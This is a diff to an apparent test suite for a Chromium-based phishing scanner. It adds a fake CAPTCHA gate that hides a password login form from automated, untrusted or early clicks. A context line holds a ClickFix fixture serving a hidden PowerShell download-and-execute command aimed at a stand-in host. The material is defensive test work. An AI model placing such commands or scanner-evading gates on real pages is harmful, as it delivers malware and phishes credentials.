@@ -117,6 +117,27 @@ describe('browser engine: interaction and linked page (real Chromium)', function
     assert.equal(result.capture!.requests.find((r) => r.url.endsWith('/gate'))?.phase, undefined, "the page's own requests carry no phase");
   });
 
+  it('a human check that ignores untrusted clicks and clicks in the first 800 ms after load (its label beside the box): the page after a visitor-like click is analysed', async () => {
+    routes.set('/robot/p', typed('text/plain; charset=utf-8', LOGIN_FORM));
+    routes.set('/robot', html(`<!doctype html><title>One more step</title><body>
+      <p>Please confirm you are not a robot to access the shared file.</p>
+      <div class="cap" style="display:flex;gap:14px;width:300px;padding:18px;border:1px solid #ccc"><div id="bx" style="width:26px;height:26px;border:2px solid #c1c1c1;cursor:pointer"></div><div>I'm not a robot</div></div>
+      <script>
+        var t0 = Date.now();
+        document.getElementById('bx').addEventListener('click', function (e) {
+          if (!e.isTrusted || Date.now() - t0 < 800) return;
+          setTimeout(function () {
+            var x = new XMLHttpRequest();
+            x.open('GET', '/robot/p');
+            x.onload = function () { document.open(); document.write(x.responseText); document.close(); };
+            x.send();
+          }, 300);
+        });
+      </script>`));
+    const { input, result } = await scan(at('robot.test', '/robot'));
+    assert.match(input.afterInteraction?.html ?? '', /type="password"/, JSON.stringify([result.capture?.interaction, result.capture?.console, result.capture?.requests.map((r) => [r.url, r.phase, r.status, r.blocked])]));
+  });
+
   it('a ClickFix button that fetches its command from the server (a slow fetch): the clipboard write is recorded', async () => {
     routes.set('/cf/cmd', slow(900, typed('application/json', JSON.stringify({ c: 'powershell -w hidden -ep bypass -c "iwr https://x.example/s.ps1 | iex"' }))));
     routes.set('/cf', html(`<!doctype html><title>Verification</title><body>
